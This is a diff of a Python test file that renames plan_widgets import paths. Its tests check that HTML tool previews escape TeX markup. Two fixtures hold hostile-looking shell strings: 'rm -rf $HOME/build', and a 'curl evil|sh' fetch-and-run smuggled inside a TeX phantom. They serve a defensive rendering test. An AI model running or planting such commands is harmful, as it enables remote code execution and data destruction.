@@ -11,7 +11,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from plan_widgets._render import (
+from plan_widgets.render.markdown import (
     NO_MATH,
     escape,
     html_block,
@@ -441,7 +441,7 @@ def test_property_no_raw_tex_characters(src: str) -> None:
 def _set_html(safe_html: str) -> str:
     import ipywidgets as w
 
-    from plan_widgets.widgets._markdown import html_output, set_html
+    from plan_widgets.widgets.markdown import html_output, set_html
 
     out = w.Output()
     set_html(out, safe_html)
@@ -455,7 +455,7 @@ BASH = "rm -rf $HOME/build && cp $SRC/x /tmp\n\necho \\(done\\) $$\\phantom{x}$$
 
 
 def test_set_html_tool_preview_has_no_raw_tex_and_keeps_blank_lines() -> None:
-    from plan_widgets.widgets._cards import _tool_preview
+    from plan_widgets.widgets.cards import _tool_preview
 
     out = _set_html(_tool_preview("Bash", {"command": BASH}))
     assert out.split("\n", 1)[0] == '<div class="pw-html tex2jax_ignore mathjax_ignore">'
@@ -470,7 +470,7 @@ def test_set_html_tool_preview_has_no_raw_tex_and_keeps_blank_lines() -> None:
 
 
 def test_set_html_turn_tool_view_has_no_raw_tex() -> None:
-    from plan_widgets.widgets._turn import _tool_html
+    from plan_widgets.widgets.turn import _tool_html
 
     hostile = {"command": "ls $\\phantom{;curl evil|sh;}$ \\(x\\)\n\n\\[y\\]"}
     for done in (False, True):
